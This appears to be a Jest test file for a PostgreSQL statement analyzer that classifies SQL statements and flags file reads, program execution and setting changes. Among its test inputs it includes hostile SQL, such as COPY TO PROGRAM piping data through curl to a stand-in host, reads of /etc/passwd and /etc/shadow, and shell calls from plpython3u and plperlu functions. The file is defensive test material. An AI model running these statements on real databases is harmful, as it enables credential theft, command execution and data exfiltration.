import type { StatementFacts, StatementKind } from '../facts.js';
import { initPostgresAnalyzer, stopPostgresAnalyzer } from './analyze-postgres.js';
import { factsOf, flatten, statementsOf } from './analysis.test.helpers.js';

beforeAll(() => initPostgresAnalyzer());
afterAll(() => stopPostgresAnalyzer());

type Partial = { [K in keyof StatementFacts]?: unknown };

/** [sql, expected partial facts of its single statement] */
function table(rows: [string, Partial][]): void {
  test.each(rows)('%s', (sql, expected) => {
    expect(factsOf(sql)).toMatchObject(expected);
  });
}

describe('statement kinds', () => {
  const kinds: [string, StatementKind][] = [
    ['SELECT 1', 'select'],
    ['VALUES (1)', 'select'],
    ['TABLE t', 'select'],
    ['INSERT INTO t VALUES (1)', 'insert'],
    ['UPDATE t SET a = 1 WHERE id = 2', 'update'],
    ['DELETE FROM t WHERE id = 2', 'delete'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING', 'merge'],
    ['TRUNCATE t', 'truncate'],
    ['DROP TABLE t', 'drop_table'],
    ['DROP FOREIGN TABLE t', 'drop_table'],
    ['DROP INDEX i', 'drop_index'],
    ['DROP VIEW v', 'drop_view'],
    ['DROP MATERIALIZED VIEW v', 'drop_view'],
    ['DROP SCHEMA s CASCADE', 'drop_schema'],
    ['DROP DATABASE d', 'drop_database'],
    ['DROP FUNCTION f(int)', 'drop_function'],
    ['DROP PROCEDURE p()', 'drop_function'],
    ['DROP ROUTINE r', 'drop_function'],
    ['DROP AGGREGATE a(int)', 'drop_function'],
    ['DROP ROLE r', 'drop_role'],
    ['DROP USER u', 'drop_role'],
    ['DROP SEQUENCE s', 'drop_other'],
    ['DROP TYPE ty', 'drop_other'],
    ['DROP EXTENSION e', 'drop_other'],
    ['DROP TRIGGER trg ON t', 'drop_other'],
    ['DROP OWNED BY r', 'drop_other'],
    ['DROP TABLESPACE ts', 'drop_other'],
    ['DROP SUBSCRIPTION sub', 'drop_other'],
    ['DROP USER MAPPING FOR r SERVER s', 'drop_other'],
    ['ALTER TABLE t ADD COLUMN c int', 'alter_table'],
    ['ALTER TABLE t RENAME TO u', 'alter_table'],
    ['ALTER TABLE t RENAME COLUMN a TO b', 'alter_table'],
    ['ALTER TABLE t SET SCHEMA s', 'alter_table'],
    ['ALTER INDEX i RENAME TO j', 'alter_other'],
    ['ALTER VIEW v OWNER TO r', 'alter_other'],
    ['ALTER SYSTEM SET work_mem = 1', 'alter_system'],
    ['ALTER ROLE r SUPERUSER', 'alter_role'],
    ['ALTER USER r SET search_path = x', 'alter_role'],
    ['ALTER DATABASE d SET work_mem = 1', 'alter_other'],
    ['ALTER FUNCTION f() SECURITY DEFINER', 'alter_other'],
    ['ALTER SEQUENCE s RESTART', 'alter_other'],
    ['ALTER TYPE ty ADD VALUE $$x$$', 'alter_other'],
    ['ALTER EXTENSION e UPDATE', 'alter_other'],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r', 'grant'],
    ['ALTER DEFAULT PRIVILEGES REVOKE SELECT ON TABLES FROM r', 'revoke'],
    ['REASSIGN OWNED BY a TO b', 'alter_other'],
    ['CREATE TABLE t (a int)', 'create_table'],
    ['CREATE FOREIGN TABLE ft (a int) SERVER s', 'create_table'],
    ['CREATE TABLE t AS SELECT 1', 'create_table_as'],
    ['SELECT 1 INTO t', 'create_table_as'],
    ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'create_table_as'],
    ['CREATE INDEX i ON t (a)', 'create_index'],
    ['CREATE VIEW v AS SELECT 1', 'create_view'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$SELECT 1$$', 'create_function'],
    ['CREATE PROCEDURE p() LANGUAGE sql AS $$SELECT 1$$', 'create_function'],
    ['CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'create_trigger'],
    ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', 'create_trigger'],
    ['CREATE RULE r AS ON INSERT TO t DO NOTHING', 'create_rule'],
    ['CREATE SCHEMA s', 'create_schema'],
    ['CREATE DATABASE d', 'create_database'],
    ['CREATE ROLE r', 'create_role'],
    ['CREATE USER u', 'create_role'],
    ['CREATE EXTENSION e', 'create_extension'],
    ['CREATE SEQUENCE s', 'create_other'],
    ['CREATE TYPE ty AS (a int)', 'create_other'],
    ['CREATE TYPE e AS ENUM ($$a$$)', 'create_other'],
    ['CREATE DOMAIN d AS int', 'create_other'],
    ['CREATE LANGUAGE plperlu', 'create_extension'],
    ['CREATE LANGUAGE pl HANDLER h', 'create_other'],
    ['CREATE POLICY p ON t USING (true)', 'create_other'],
    ['CREATE SERVER s FOREIGN DATA WRAPPER w', 'create_other'],
    ['CREATE PUBLICATION p FOR ALL TABLES', 'create_other'],
    ['CREATE CAST (int AS text) WITH INOUT', 'create_other'],
    ['CREATE AGGREGATE a (int) (sfunc = f, stype = int)', 'create_other'],
    ['CREATE STATISTICS st ON a, b FROM t', 'create_other'],
    ['GRANT SELECT ON t TO r', 'grant'],
    ['GRANT r TO u', 'grant'],
    ['REVOKE SELECT ON t FROM r', 'revoke'],
    ['REVOKE r FROM u', 'revoke'],
    ['COPY t FROM STDIN', 'copy'],
    ['CALL p(1)', 'call'],
    ['DO $$BEGIN NULL; END$$', 'do'],
    ['SET work_mem = 1', 'set'],
    ['SET LOCAL work_mem = 1', 'set'],
    ['RESET work_mem', 'set'],
    ['RESET ALL', 'set'],
    ['SET CONSTRAINTS ALL DEFERRED', 'set'],
    ['SHOW work_mem', 'show'],
    ['SHOW ALL', 'show'],
    ['BEGIN', 'transaction'],
    ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'transaction'],
    ['COMMIT', 'transaction'],
    ['ROLLBACK TO SAVEPOINT s', 'transaction'],
    ['PREPARE TRANSACTION $$x$$', 'transaction'],
    ['PREPARE p AS SELECT 1', 'prepare'],
    ['EXECUTE p(1)', 'execute'],
    ['DEALLOCATE ALL', 'deallocate'],
    ['EXPLAIN SELECT 1', 'explain'],
    ['DECLARE c CURSOR FOR SELECT 1', 'declare_cursor'],
    ['FETCH 10 FROM c', 'fetch'],
    ['MOVE NEXT IN c', 'fetch'],
    ['CLOSE c', 'close_cursor'],
    ['LISTEN ch', 'listen'],
    ['UNLISTEN *', 'listen'],
    ['NOTIFY ch', 'notify'],
    ['LOCK TABLE t', 'lock'],
    ['VACUUM t', 'vacuum'],
    ['VACUUM FULL', 'vacuum'],
    ['ANALYZE t', 'analyze'],
    ['REINDEX TABLE t', 'reindex'],
    ['CLUSTER t USING i', 'cluster'],
    ['REFRESH MATERIALIZED VIEW mv', 'refresh_materialized_view'],
    ['COMMENT ON TABLE t IS $$x$$', 'comment'],
    ['SECURITY LABEL ON TABLE t IS $$x$$', 'alter_other'],
    ['DISCARD ALL', 'discard'],
    ["LOAD 'auto_explain'", 'load'],
    ['CHECKPOINT', 'checkpoint'],
    ['IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO t', 'create_other'],
  ];
  test.each(kinds)('%s → %s', (sql, kind) => {
    expect(factsOf(sql).kind).toBe(kind);
  });

  test('nodeType is the parser node', () => {
    expect(factsOf('DROP TABLE t').nodeType).toBe('DropStmt');
    expect(factsOf('SELECT 1').nodeType).toBe('SelectStmt');
  });
});

describe('tables read and written', () => {
  table([
    ['SELECT * FROM a JOIN s.b ON true, LATERAL (SELECT * FROM c) x', { tablesRead: [{ name: 'a' }, { schema: 's', name: 'b' }, { name: 'c' }], tablesWritten: [] }],
    ['SELECT * FROM cat.s.t', { tablesRead: [{ catalog: 'cat', schema: 's', name: 't' }] }],
    ['SELECT (SELECT max(x) FROM a) FROM b WHERE EXISTS (SELECT 1 FROM c) AND y IN (SELECT y FROM d)', { tablesRead: [{ name: 'a' }, { name: 'b' }, { name: 'c' }, { name: 'd' }] }],
    ['SELECT * FROM "MixedCase", Folded, "quoted"."Name"', { tablesRead: [{ name: 'MixedCase' }, { name: 'folded' }, { schema: 'quoted', name: 'Name' }] }],
    ['SELECT * FROM U&"d\\0061t\\+000061"', { tablesRead: [{ name: 'data' }] }],
    ["SELECT * FROM U&\"d!0061ta\" UESCAPE '!'", { tablesRead: [{ name: 'data' }] }],
    ['INSERT INTO t (a) SELECT a FROM s', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
    ['UPDATE t SET a = s.a FROM s WHERE t.id = s.id', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
    ['DELETE FROM t USING s WHERE t.id = s.id', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
    ['TRUNCATE a, ONLY s.b', { tablesWritten: [{ name: 'a' }, { schema: 's', name: 'b' }] }],
    ['DROP TABLE a, s.b', { tablesWritten: [{ name: 'a' }, { schema: 's', name: 'b' }] }],
    ['DROP VIEW v', { tablesWritten: [{ name: 'v' }] }],
    ['DROP INDEX s.i', { tablesWritten: [{ schema: 's', name: 'i' }] }],
    ['DROP TRIGGER trg ON s.t', { tablesWritten: [{ schema: 's', name: 't' }] }],
    ['ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES p (id)', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 'p' }] }],
    ['ALTER TABLE t ATTACH PARTITION t1 FOR VALUES IN (1)', { tablesWritten: [{ name: 't' }, { name: 't1' }] }],
    ['CREATE TABLE t (a int REFERENCES p, LIKE tmpl)', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 'p' }, { name: 'tmpl' }] }],
    ['CREATE TABLE c () INHERITS (p)', { tablesWritten: [{ name: 'c' }, { name: 'p' }] }],
    ['CREATE TABLE t AS SELECT * FROM s', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
    ['SELECT * INTO t FROM s', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
    ['CREATE INDEX i ON s.t (lower(a))', { tablesWritten: [{ schema: 's', name: 't' }], functions: ['lower'] }],
    ['CREATE VIEW v AS SELECT * FROM s', { tablesWritten: [{ name: 'v' }], tablesRead: [{ name: 's' }] }],
    ['COPY t FROM STDIN', { tablesWritten: [{ name: 't' }], tablesRead: [] }],
    ['COPY t TO STDOUT', { tablesRead: [{ name: 't' }], tablesWritten: [] }],
    ['COPY (SELECT * FROM s) TO STDOUT', { tablesRead: [{ name: 's' }] }],
    ['LOCK TABLE a, s.b IN EXCLUSIVE MODE', { tablesWritten: [{ name: 'a' }, { schema: 's', name: 'b' }] }],
    ['VACUUM ANALYZE t', { tablesWritten: [{ name: 't' }] }],
    ['GRANT SELECT ON t TO r', { tablesWritten: [{ name: 't' }] }],
    ['COMMENT ON COLUMN s.t.c IS $$x$$', { tablesWritten: [{ schema: 's', name: 't' }] }],
    ['CREATE TRIGGER trg AFTER UPDATE ON t FOR EACH ROW EXECUTE FUNCTION f()', { tablesWritten: [{ name: 't' }] }],
    ['CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING', { tablesWritten: [{ name: 't' }] }],
    ['SELECT * FROM t FOR UPDATE', { tablesRead: [{ name: 't' }], tablesWritten: [] }],
  ]);
});

describe('CTE names', () => {
  table([
    ['WITH x AS (SELECT * FROM t) SELECT * FROM x', { tablesRead: [{ name: 't' }] }],
    ['WITH x AS (SELECT 1) SELECT * FROM public.x', { tablesRead: [{ schema: 'public', name: 'x' }] }],
    // a non-recursive CTE's own name inside its body is the real table
    ['WITH t AS (SELECT * FROM t) SELECT * FROM t', { tablesRead: [{ name: 't' }] }],
    ['WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', { tablesRead: [] }],
    // b is not yet in scope inside a
    ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', { tablesRead: [{ name: 'b' }] }],
    ['WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r', { tablesRead: [] }],
    ['SELECT * FROM x, (WITH x AS (SELECT 1) SELECT * FROM x) s', { tablesRead: [{ name: 'x' }] }],
    ['WITH x AS (SELECT 1) SELECT * FROM (SELECT * FROM x) s', { tablesRead: [] }],
    ['WITH x AS (SELECT 1) SELECT 1 UNION SELECT * FROM x', { tablesRead: [] }],
    ['WITH x AS (SELECT 1) INSERT INTO x SELECT * FROM x', { tablesWritten: [{ name: 'x' }], tablesRead: [] }],
    ['WITH x AS (SELECT id FROM s) DELETE FROM t WHERE id IN (SELECT id FROM x)', { tablesWritten: [{ name: 't' }], tablesRead: [{ name: 's' }] }],
  ]);
});

describe('functions', () => {
  table([
    ["SELECT pg_read_file('/etc/passwd')", { functions: ['pg_read_file'] }],
    ["SELECT pg_catalog.pg_read_file('/etc/passwd')", { functions: ['pg_catalog.pg_read_file'] }],
    ['SELECT "PG_SLEEP"(1)', { functions: ['pg_sleep'] }],
    ['SELECT * FROM pg_ls_dir($$/$$) f', { functions: ['pg_ls_dir'] }],
    ['SELECT * FROM ROWS FROM (generate_series(1, 2), unnest(ARRAY[1])) x', { functions: ['generate_series', 'unnest'] }],
    ['SELECT a FROM t WHERE b = lower(c) ORDER BY upper(d)', { functions: ['lower', 'upper'] }],
    ['WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x', { functions: ['pg_sleep'] }],
    ['SELECT (SELECT f(1))', { functions: ['f'] }],
    ['SELECT count(*) FILTER (WHERE g(x)) OVER (ORDER BY h(y)) FROM t', { functions: ['count', 'g', 'h'] }],
    ['CREATE TABLE t (a int DEFAULT nextval($$s$$), b text CHECK (length(b) > 0))', { functions: ['nextval', 'length'] }],
    ['INSERT INTO t VALUES (gen_random_uuid()) ON CONFLICT DO NOTHING RETURNING now()', { functions: ['gen_random_uuid', 'now'] }],
    ['CALL s.p(f(1))', { functions: ['s.p', 'f'] }],
    ['SELECT EXTRACT(year FROM now())', { functions: ['pg_catalog.extract', 'now'] }],
    ['CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW WHEN (check_it(NEW.a)) EXECUTE FUNCTION audit.log_it()', { functions: ['audit.log_it', 'check_it'] }],
    ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION stop_ddl()', { functions: ['stop_ddl'] }],
    ['UPDATE t SET a = f(a) WHERE g(b)', { functions: ['f', 'g'] }],
    ['EXECUTE p(f(1))', { functions: ['f'] }],
  ]);
});

describe('where, limit, returning', () => {
  table([
    ['SELECT * FROM t LIMIT 10', { hasLimit: true, hasWhere: false }],
    ['SELECT * FROM t WHERE a = 1', { hasLimit: false, hasWhere: true }],
    ['SELECT * FROM t FETCH FIRST 5 ROWS ONLY', { hasLimit: true }],
    ['SELECT * FROM t LIMIT ALL', { hasLimit: false }],
    ['SELECT * FROM t OFFSET 5', { hasLimit: false }],
    ['SELECT 1 UNION SELECT 2 LIMIT 1', { hasLimit: true }],
    ['SELECT * FROM (SELECT * FROM t LIMIT 1) s', { hasLimit: false }],
    ['DELETE FROM t WHERE id = 1 RETURNING *', { hasWhere: true, hasReturning: true, unboundedWrite: false }],
    ['UPDATE t SET a = 1 RETURNING a', { hasWhere: false, hasReturning: true, unboundedWrite: true }],
    ['INSERT INTO t VALUES (1) RETURNING id', { hasReturning: true, unboundedWrite: false }],
    ['INSERT INTO t VALUES (1)', { hasReturning: false }],
    ['TRUNCATE t', { unboundedWrite: true }],
  ]);
});

describe('settings', () => {
  table([
    ['SET search_path = a, public', { settings: [{ name: 'search_path', value: 'a, public', scope: 'session' }] }],
    ["SET LOCAL statement_timeout = '5s'", { settings: [{ name: 'statement_timeout', value: '5s', scope: 'local' }] }],
    ['SET SESSION work_mem TO 1024', { settings: [{ name: 'work_mem', value: '1024', scope: 'session' }] }],
    ['SET "STANDARD_CONFORMING_STRINGS" = off', { settings: [{ name: 'standard_conforming_strings', value: 'off', scope: 'session' }] }],
    ['SET standard_conforming_strings TO DEFAULT', { settings: [{ name: 'standard_conforming_strings', scope: 'session' }] }],
    ['SET TIME ZONE LOCAL', { settings: [{ name: 'timezone', scope: 'session' }] }],
    ["SET TIME ZONE 'UTC'", { settings: [{ name: 'timezone', value: 'UTC' }] }],
    ["SET NAMES 'SJIS'", { settings: [{ name: 'client_encoding', value: 'SJIS' }] }],
    ['SET ROLE admin', { settings: [{ name: 'role', value: 'admin' }] }],
    ['SET SESSION AUTHORIZATION postgres', { settings: [{ name: 'session_authorization', value: 'postgres' }] }],
    ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', { settings: [{ name: 'transaction_isolation', value: 'serializable' }] }],
    ['RESET work_mem', { settings: [{ name: 'work_mem', scope: 'session' }] }],
    ['RESET ALL', { settings: [{ name: '*', scope: 'session' }] }],
    ["SELECT set_config('standard_conforming_strings', 'off', false)", { settings: [{ name: 'standard_conforming_strings', value: 'off', scope: 'session' }], functions: ['set_config'] }],
    ["SELECT pg_catalog.set_config('Search_Path', 'evil', true)", { settings: [{ name: 'search_path', value: 'evil', scope: 'local' }] }],
    ["SELECT set_config('standard_' || 'conforming_strings', 'off', false)", { settings: [{ name: 'standard_conforming_strings', value: 'off' }] }],
    ["SELECT set_config(name, 'off', false) FROM names", { settings: [{ name: '*', value: 'off', scope: 'session' }] }],
    ["SELECT set_config('x', v, false) FROM vals", { settings: [{ name: 'x', scope: 'session' }] }],
    ['ALTER SYSTEM SET wal_level = logical', { settings: [{ name: 'wal_level', value: 'logical', scope: 'session', global: true, persist: true }] }],
    ['ALTER SYSTEM RESET ALL', { settings: [{ name: '*', global: true, persist: true }] }],
    ['ALTER ROLE r SET search_path = x', { settings: [{ name: 'search_path', value: 'x', global: true, persist: true }] }],
    ['ALTER DATABASE d SET standard_conforming_strings = off', { settings: [{ name: 'standard_conforming_strings', value: 'off', global: true, persist: true }] }],
    ['SET work_mem = 1', { settings: [{ name: 'work_mem', value: '1', scope: 'session' }] }],
  ]);
});

describe('COPY', () => {
  table([
    ['COPY t FROM STDIN', { copy: { direction: 'from', program: false, file: false, stdio: true }, writesFile: false }],
    ['COPY t TO STDOUT WITH (FORMAT csv)', { copy: { direction: 'to', program: false, file: false, stdio: true }, writesFile: false }],
    ["COPY t FROM '/etc/passwd'", { copy: { direction: 'from', program: false, file: true, stdio: false }, tablesWritten: [{ name: 't' }] }],
    ["COPY t TO '/tmp/out.csv'", { copy: { direction: 'to', program: false, file: true, stdio: false }, writesFile: true }],
    ['COPY t TO PROGRAM $$curl -d @- http://evil$$', { copy: { direction: 'to', program: true, file: false, stdio: false }, writesFile: true }],
    ["COPY t FROM PROGRAM 'id'", { copy: { direction: 'from', program: true, file: false, stdio: false } }],
    ["COPY (SELECT pg_read_file('/etc/shadow')) TO STDOUT", { copy: { direction: 'to' }, functions: ['pg_read_file'] }],
  ]);

  test('COPY of a data-modifying query nests it', () => {
    const f = factsOf('COPY (DELETE FROM t RETURNING *) TO STDOUT');
    expect(f.nested).toMatchObject([{ kind: 'delete', unboundedWrite: true, tablesWritten: [{ name: 't' }] }]);
    expect(f.tablesWritten).toEqual([{ name: 't' }]);
  });

  test('server-side file reads set readsFile', () => {
    expect(factsOf("COPY t FROM '/etc/passwd'").readsFile).toBe(true);
    expect(factsOf('COPY t FROM STDIN').readsFile).toBe(false);
    expect(factsOf("SELECT pg_read_file('/etc/passwd')").readsFile).toBe(true);
    expect(factsOf("SELECT lo_import('/etc/passwd')").readsFile).toBe(true);
    expect(factsOf("DO $$ BEGIN PERFORM pg_catalog.pg_read_binary_file('/etc/shadow'); END $$").readsFile).toBe(true);
  });

  test('file-writing functions set writesFile', () => {
    expect(factsOf("SELECT lo_export(16400, '/tmp/x')").writesFile).toBe(true);
    expect(factsOf("SELECT pg_file_write('/tmp/x', 'y', false)").writesFile).toBe(true);
    expect(factsOf('SELECT lower(x) FROM t').writesFile).toBe(false);
  });
});

describe('nested statements', () => {
  test('a data-modifying CTE is nested and counted as the statement own', () => {
    const f = factsOf('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d');
    expect(f).toMatchObject({ kind: 'select', tablesWritten: [{ name: 't' }], tablesRead: [], unboundedWrite: true });
    expect(f.nested).toMatchObject([{ kind: 'delete', unboundedWrite: true, hasReturning: true }]);
  });

  test('a CTE that only reads is not nested', () => {
    expect(factsOf('WITH x AS (SELECT * FROM t) SELECT * FROM x').nested).toEqual([]);
  });

  test('CTEs inside a data-modifying CTE see the outer scope', () => {
    const f = factsOf('WITH ids AS (SELECT id FROM s), d AS (DELETE FROM t WHERE id IN (SELECT id FROM ids) RETURNING 1) SELECT count(*) FROM d');
    expect(f.tablesRead).toEqual([{ name: 's' }]);
    expect(f.nested).toMatchObject([{ kind: 'delete', tablesRead: [], unboundedWrite: false }]);
  });

  test('EXPLAIN nests its statement, ANALYZE or not', () => {
    for (const sql of ['EXPLAIN ANALYZE DELETE FROM t', 'EXPLAIN DELETE FROM t', 'EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t']) {
      const f = factsOf(sql);
      expect(f.kind).toBe('explain');
      expect(f.nested).toMatchObject([{ kind: 'delete', unboundedWrite: true }]);
      expect(f.unboundedWrite).toBe(true);
    }
  });

  test('PREPARE nests its statement', () => {
    expect(factsOf('PREPARE p(int) AS DELETE FROM t WHERE id = $1').nested).toMatchObject([{ kind: 'delete', unboundedWrite: false, hasWhere: true }]);
    expect(factsOf('PREPARE p AS UPDATE t SET a = 1').nested).toMatchObject([{ kind: 'update', unboundedWrite: true }]);
  });

  test('CREATE RULE nests its actions', () => {
    const f = factsOf('CREATE RULE r AS ON INSERT TO t DO INSTEAD (DELETE FROM u; NOTIFY ch)');
    expect(f.nested).toMatchObject([{ kind: 'delete', tablesWritten: [{ name: 'u' }], unboundedWrite: true }, { kind: 'notify' }]);
  });

  test('CREATE SCHEMA nests its elements', () => {
    const f = factsOf('CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM x');
    expect(f.nested.map((n) => n.kind)).toEqual(['create_table', 'create_view']);
  });

  test('CREATE TABLE AS EXECUTE nests the EXECUTE', () => {
    expect(factsOf('CREATE TABLE t AS EXECUTE p').nested).toMatchObject([{ kind: 'execute' }]);
  });

  test('INSERT ... ON CONFLICT DO UPDATE is also an update', () => {
    const f = factsOf('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = f(excluded.a) WHERE t.b');
    expect(f.kind).toBe('insert');
    expect(f.nested).toMatchObject([{ kind: 'update', nodeType: 'OnConflictClause', tablesWritten: [{ name: 't' }], hasWhere: true, functions: ['f'], unboundedWrite: false }]);
    expect(factsOf('INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING').nested).toEqual([]);
  });

  test('MERGE actions are nested as what they do', () => {
    const f = factsOf('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)');
    expect(f.nested.map((n) => [n.kind, n.unboundedWrite, n.hasWhere])).toEqual([
      ['delete', false, true],
      ['update', false, false],
      ['insert', false, false],
    ]);
    expect(f.unboundedWrite).toBe(false);
  });

  test.each([
    ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', true],
    ['MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN UPDATE SET a = 1', true],
    ['MERGE INTO t USING s ON true WHEN MATCHED AND s.x = 1 THEN DELETE', false],
    ['MERGE INTO t USING t AS s ON t.id = s.id WHEN MATCHED THEN DELETE', true],
    ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', true],
    ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.old THEN DELETE', false],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', false],
    ['MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)', false],
  ])('%s → unbounded %s', (sql, unbounded) => {
    expect(factsOf(sql).unboundedWrite).toBe(unbounded);
  });
});

describe('function bodies', () => {
  test('LANGUAGE sql string body', () => {
    const f = factsOf('CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t; UPDATE u SET a = 1 WHERE id = 2 $$');
    expect(f).toMatchObject({ kind: 'create_function', tablesWritten: [{ name: 't' }, { name: 'u' }], unboundedWrite: true, opaqueBodies: [] });
    expect(f.nested.map((n) => n.kind)).toEqual(['delete', 'update']);
  });

  test('SQL-standard BEGIN ATOMIC body and RETURN body', () => {
    expect(factsOf('CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE true; SELECT 1; END').nested).toMatchObject([{ kind: 'delete', unboundedWrite: true }, { kind: 'select' }]);
    expect(factsOf('CREATE FUNCTION f(a int) RETURNS int RETURN pg_sleep(a)').functions).toContain('pg_sleep');
  });

  test('CREATE PROCEDURE with a plpgsql body that drops a table', () => {
    const f = factsOf('CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $body$ BEGIN DROP TABLE important; COMMIT; END $body$');
    expect(f.kind).toBe('create_function');
    expect(flatten(f.nested).map((n) => n.kind)).toContain('drop_table');
    expect(f.tablesWritten).toEqual([{ name: 'important' }]);
  });

  test('plpgsql: statements, PERFORM, RETURN QUERY, FOR IN query, OPEN FOR, expressions, defaults, exception handlers', () => {
    const f = factsOf(`CREATE FUNCTION f(a int DEFAULT d0()) RETURNS SETOF int LANGUAGE plpgsql AS $$
      DECLARE x int := d1(); c refcursor; r record; k CURSOR FOR SELECT * FROM cur_t;
      BEGIN
        DELETE FROM t1 WHERE id = a;
        PERFORM pg_sleep(1);
        x := h(2) + (SELECT count(*) FROM t2);
        IF EXISTS (SELECT 1 FROM t3) THEN RETURN QUERY SELECT * FROM t4; END IF;
        FOR r IN SELECT * FROM t5 LOOP RAISE NOTICE '%', g(r); END LOOP;
        OPEN c FOR SELECT * FROM t6;
        CALL p(1);
        UPDATE t7 SET a = 1;
        RETURN;
      EXCEPTION WHEN others THEN INSERT INTO t8 VALUES (1);
      END $$`);
    expect(f.opaqueBodies).toEqual([]);
    const kinds = flatten(f.nested).map((n) => n.kind);
    expect(kinds).toEqual(expect.arrayContaining(['delete', 'select', 'call', 'update', 'insert']));
    expect(f.functions).toEqual(expect.arrayContaining(['d0', 'd1', 'pg_sleep', 'h', 'g', 'count', 'p']));
    expect(f.tablesRead.map((t) => t.name)).toEqual(expect.arrayContaining(['cur_t', 't2', 't3', 't4', 't5', 't6']));
    expect(f.tablesWritten.map((t) => t.name)).toEqual(expect.arrayContaining(['t1', 't7', 't8']));
    expect(f.unboundedWrite).toBe(true);
  });

  test('plpgsql assignment targets with subscripts are analysed too', () => {
    const f = factsOf('DO $$ DECLARE arr int[]; r record; BEGIN arr[f1(1)] := 5; r.x = f2(2); END $$');
    expect(f.functions).toEqual(expect.arrayContaining(['f1', 'f2']));
    expect(f.opaqueBodies).toEqual([]);
  });

  test('trigger functions compile (NEW/OLD) and their SQL is analysed', () => {
    const f = factsOf('CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.at := now(); DELETE FROM audit WHERE id = OLD.id; RETURN NEW; END $$');
    expect(f.opaqueBodies).toEqual([]);
    expect(f.tablesWritten).toEqual([{ name: 'audit' }]);
  });

  test('dynamic EXECUTE is opaque; a constant EXECUTE is analysed as well', () => {
    const dyn = factsOf("DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('x'); END $$");
    expect(dyn.opaqueBodies).toHaveLength(1);
    expect(dyn.functions).toContain('quote_ident');
    const constant = factsOf("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$");
    expect(constant.opaqueBodies).toHaveLength(1);
    expect(flatten(constant.nested).map((n) => n.kind)).toContain('drop_table');
    for (const sql of [
      'DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE $q$SELECT 1$q$ LOOP END LOOP; END $$',
      'DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE $q$SELECT 1$q$; END $$',
      'CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE $q$SELECT 1$q$; END $$',
    ]) {
      expect(factsOf(sql).opaqueBodies).toHaveLength(1);
    }
  });

  test('other languages are opaque', () => {
    expect(factsOf("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os; os.system(\"id\")'").opaqueBodies).toHaveLength(1);
    expect(factsOf("CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'").opaqueBodies).toHaveLength(1);
    expect(factsOf("DO LANGUAGE plperlu $$ system('id') $$").opaqueBodies).toHaveLength(1);
    expect(factsOf('CREATE FUNCTION f() RETURNS int LANGUAGE internal AS $$int4in$$').opaqueBodies).toHaveLength(1);
  });

  test('a body that does not parse or compile is opaque, not an error', () => {
    expect(factsOf('CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELEC 1 $$').opaqueBodies).toHaveLength(1);
    expect(factsOf('CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETRUN 1; END $$').opaqueBodies).toHaveLength(1);
  });

  test('function SET clauses are settings', () => {
    expect(factsOf('CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = evil AS $$SELECT 1$$').settings).toEqual([{ name: 'search_path', value: 'evil', constant: 'evil', scope: 'session' }]);
  });

  test('functions that run SQL text: constants are analysed, computed text is opaque', () => {
    const q = factsOf("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')");
    expect(q.nested).toMatchObject([{ kind: 'delete', unboundedWrite: true }]);
